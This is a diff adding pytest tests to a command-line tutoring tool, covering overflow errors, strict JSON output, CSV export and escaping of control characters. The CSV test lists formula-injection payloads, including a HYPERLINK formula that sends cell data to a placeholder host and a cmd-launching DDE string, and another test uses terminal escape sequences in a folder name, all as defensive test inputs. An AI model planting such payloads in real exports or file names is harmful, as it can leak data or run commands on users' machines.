@@ -251,3 +251,181 @@ def test_run_of_a_quiz_whose_draws_train_for_minutes_is_bounded(capsys, tmp_path
     assert time.perf_counter() - start < 30
     assert code == 2 and out == ""
     assert err.startswith(f"tutor: {lesson}: the check ran out of its time budget (2 s)")
+
+
+OF_OVERFLOW = """\
+format = 1
+id = "of-overflow"
+title = "T"
+graph = \"\"\"
+a = 1e-300
+b = 1e300
+c = a * b
+p = c * b
+L = p + c
+\"\"\"
+[[steps]]
+ask = "grad"
+node = "a"
+of = "p"
+"""
+
+
+def strict_json(text: str):
+    import json
+
+    def refuse(constant: str):
+        raise AssertionError(f"not JSON: {constant}")
+
+    return json.loads(text, parse_constant=refuse)
+
+
+def test_run_of_an_answer_that_overflows_is_an_error_at_its_line(capsys, tmp_path):
+    (tmp_path / "of.toml").write_text(OF_OVERFLOW)
+    answers = tmp_path / "answers.txt"
+    answers.write_text("1\n")
+    code, out, err = run(
+        capsys,
+        "run",
+        "--lessons",
+        str(tmp_path),
+        "of-overflow",
+        "--answers",
+        str(answers),
+        "--record",
+    )
+    assert code == 2 and not out
+    assert err.startswith(f"tutor: {tmp_path / 'of.toml'}:11: the answer is inf")
+    code, out, _ = run(capsys, "progress", "--lessons", str(tmp_path), "--json")
+    assert code == 0 and strict_json(out)[0]["score"] == 0  # nothing recorded
+
+
+def test_json_never_holds_infinity_or_nan():
+    from tutor.numbers import json_text
+
+    text = json_text({"a": float("inf"), "b": [float("nan"), -float("inf"), 1.5]})
+    assert strict_json(text) == {"a": None, "b": [None, None, 1.5]}
+    assert "\n" not in json_text({"a": [1, 2]}, indent=None)
+
+
+def test_progress_csv_neutralises_cells_a_spreadsheet_would_take_for_formulas(capsys, folder):
+    import csv
+    import io
+
+    from tutor.progress import Answer, ProgressStore
+
+    answers = [
+        '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd",
+        "-2+3",
+        "\t=1",
+        "\r=1",
+        "-2",
+        "-0.5",
+        "+3",
+        "1/2",
+        "a*b",
+    ]
+    with ProgressStore.open() as store:
+        for index, text in enumerate(answers):
+            store.record_answer(Answer("tiny", 0, index, text, "incorrect"))
+    code, out, _ = run(capsys, "--lessons", str(folder), "progress", "--csv")
+    assert code == 0
+    cells = [row["answer"] for row in csv.DictReader(io.StringIO(out))]
+    assert cells == [
+        "'" + answers[0],
+        "'" + answers[1],
+        "'+1+cmd",
+        "'-2+3",
+        "'\t=1",
+        "'\\x0d=1",  # the command line shows a carriage return escaped as well
+        "-2",
+        "-0.5",
+        "+3",
+        "1/2",
+        "a*b",
+    ]
+
+
+def one_json_value(out: str):
+    """``out`` is exactly one JSON value (and a newline), nothing before or after."""
+    import json
+
+    _value, end = json.JSONDecoder().raw_decode(out)
+    assert out[end:].strip() == "", out[end:]
+    return strict_json(out)
+
+
+@pytest.mark.parametrize(
+    ("argv", "code", "error"),
+    [
+        (["check", "--json", "a" * 5000], 2, "cannot use a"),  # File name too long
+        (["check", "--json", "--bogus"], 2, "usage: unrecognized arguments: --bogus"),
+        (["--json", "check"], 2, "usage: unrecognized arguments: --json"),
+        (["run", "--json", "nothing-here", "--answers", "x"], 2, "nothing-here"),
+        (["lessons", "--json", "--lessons", "a" * 5000], 2, "cannot use a"),
+        (["lessons", "--json", "--lessons", "missing"], 0, None),  # its own document
+    ],
+    ids=["long-name", "bad-option", "json-before", "run-missing", "long-folder", "lessons"],
+)
+def test_json_is_one_value_on_stdout_whatever_fails(capsys, argv, code, error):
+    got, out, err = run(capsys, *argv)
+    assert got == code
+    data = one_json_value(out)
+    if error is not None:
+        assert data["ok"] is False and data["exit"] == code
+        assert data["error"].startswith(error)
+        assert err  # the message is on stderr too, for a person
+
+
+def test_json_on_an_internal_error_is_one_value(capsys, monkeypatch):
+    import tutor.author.checking as checking
+
+    def broken(*_args, **_kwargs):
+        raise RuntimeError("a bug")
+
+    monkeypatch.setattr(checking, "check_paths", broken)
+    code, out, err = run(capsys, "check", "--json", ".")
+    assert code == 70 and "internal error" in err
+    data = one_json_value(out)
+    assert data["exit"] == 70 and data["error"].startswith("internal error: RuntimeError: a bug")
+
+
+def test_watch_json_prints_json_lines(capsys, monkeypatch, folder):
+    import tutor.author.watch as watching
+
+    def twice(paths, check):
+        check()
+        check()
+        return 2
+
+    monkeypatch.setattr(watching, "watch", twice)
+    code, out, _ = run(capsys, "check", "--watch", "--json", str(folder / "tiny.toml"))
+    assert code == 0
+    lines = out.splitlines()
+    assert len(lines) == 2
+    assert all(strict_json(line)["files"][0]["lesson"] == "tiny" for line in lines)
+
+
+def test_new_refuses_an_id_with_a_final_newline(capsys, tmp_path):
+    code, _, err = run(capsys, "new", "abc\n", "--dir", str(tmp_path))
+    assert code == 2 and "is not a lesson id" in err
+    assert list(tmp_path.iterdir()) == []
+    from tutor.lesson import LessonLoadError, load_lesson_text
+
+    with pytest.raises(LessonLoadError, match="use lowercase letters"):  # nor in a file
+        load_lesson_text(LESSON.replace('id = "tiny"', 'id = "tiny\\n"'), "L.toml")
+
+
+def test_new_writes_a_folder_name_with_control_characters_escaped(capsys, tmp_path):
+    from tutor.lesson import load_lesson_text
+
+    folder = tmp_path / "d\x1b]0;PWN\x07\u202e"
+    folder.mkdir()
+    code, out, _ = run(capsys, "new", "e", "--dir", str(folder))
+    assert code == 0 and ESC not in out
+    text = (folder / "e.toml").read_text()
+    assert ESC not in text and "\x07" not in text and "\u202e" not in text
+    assert "d\\x1b]0;PWN\\x07\\u202e" in text  # shown escaped in its comment
+    assert load_lesson_text(text, "e.toml").id == "e"  # and the template still loads
